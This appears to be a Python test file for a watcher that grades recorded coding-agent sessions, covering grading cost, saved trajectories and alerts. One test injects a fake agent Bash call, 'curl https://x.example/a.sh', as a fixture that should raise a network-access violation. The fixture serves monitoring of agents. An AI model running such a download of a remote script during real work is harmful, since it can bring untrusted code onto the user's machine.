"""A long session sent one record at a time is not re-graded on every record (that cost the
square of its length: 600 steps took a minute), and what arrives is still graded whole."""

from __future__ import annotations

import json
import math
import tempfile
from dataclasses import replace
from pathlib import Path

from otel_oracles.decode import read_paths
from otel_oracles.model.result import InputProblem
from otel_oracles.model.span import LogRecord
from otel_oracles.watch import Watcher
from otel_oracles.watch._watcher import GROWTH, SMALL_SESSION
from tests.watch.captures import capture


def claude_code_turns(turns: int, curl_at: int | None = None) -> list[LogRecord]:
    """The clean_fix capture's opening records, then its tool turns repeated ``turns``
    times with fresh sequence numbers and call ids; turn ``curl_at`` runs ``curl``."""
    problems: list[InputProblem] = []
    records = [r for b in read_paths([str(capture("claude-code", "clean_fix"))], problems)
               for r in b.logs]  # fmt: skip
    opening, body = records[:3], records[3:12]
    assert {r.attributes["event.name"] for r in body} >= {"tool_decision", "tool_result"}
    out = list(opening)
    seq = 100
    for turn in range(turns):
        for record in body:
            seq += 1
            attrs = {**record.attributes, "event.sequence": seq}
            if "tool_use_id" in attrs:
                attrs["tool_use_id"] = f"toolu_{turn}_{attrs['tool_use_id']}"
            if turn == curl_at and attrs.get("tool_name") == "Bash" and "tool_input" in attrs:
                attrs["tool_input"] = json.dumps({"command": "curl https://x.example/a.sh"})
            out.append(replace(record, attributes=attrs, time_ns=record.time_ns + seq * 1000))
    return out


def one_at_a_time(records: list[LogRecord]) -> Watcher:
    watcher = Watcher(Path(tempfile.mkdtemp(prefix="watch-")))
    for record in records:
        watcher.offer([record])
    return watcher


def graded(watcher: Watcher, key: str) -> list[tuple[object, ...]]:
    """A session's verdict, what each check said (durations left out)."""
    verdict = watcher.verdicts[key]
    return [(verdict.passed,)] + [
        (r.name, r.outcome, r.message, tuple(r.step_indexes), json.dumps(r.details, default=str))
        for r in verdict.results
    ]


def test_gradings_grow_with_the_log_of_the_session_and_the_end_is_graded_whole() -> None:
    records = claude_code_turns(300)  # 2,703 records, 900 steps
    paced = one_at_a_time(records)
    bound = SMALL_SESSION + math.ceil(math.log(len(records) / SMALL_SESSION, 1 + 1 / GROWTH)) + 1
    assert paced.gradings <= bound, (paced.gradings, bound)
    assert paced.pending == 1  # the last records arrived after the last grading
    paced.flush()
    assert paced.pending == 0

    whole = Watcher(Path(tempfile.mkdtemp(prefix="watch-")))
    whole.offer(records)
    assert whole.gradings == 1
    [session] = paced.sessions()
    assert len(session.steps) == 900
    assert graded(paced, session.key) == graded(whole, session.key)
    assert paced.alerts == whole.alerts
    saved = json.loads((paced.save_dir / f"{session.key}.trajectory.json").read_text())
    assert len(saved["steps"]) == 900, "the trajectory saved is the one graded last"
    lines = (paced.save_dir / f"{session.key}.telemetry.jsonl").read_text().splitlines()
    assert len(lines) == len(records), "every record is saved as it arrives"


def test_a_violation_late_in_a_long_session_is_alerted_by_the_next_tick() -> None:
    records = claude_code_turns(100, curl_at=99)
    watcher = one_at_a_time(records[:-9])  # everything before the curl turn
    assert not watcher.violations()
    news = []
    for record in records[-9:]:
        news += watcher.offer([record]).alerts
    assert watcher.pending == 1 and not news, "the curl turn alone does not make it due"
    assert watcher.tick(now=-math.inf).alerts == [], "not while the pace forbids"
    alerts = watcher.tick(now=math.inf).alerts
    assert [(a.rule, a.is_violation) for a in alerts] == [("network_access", True)]
    assert watcher.pending == 0
    assert watcher.tick(now=math.inf).alerts == [], "graded once: nothing pending"


def test_small_sessions_are_graded_on_every_record() -> None:
    records = claude_code_turns(3)
    assert len(records) <= SMALL_SESSION
    watcher = one_at_a_time(records)
    assert watcher.gradings == len(records) - 1  # the first record opens no step
    assert watcher.pending == 0
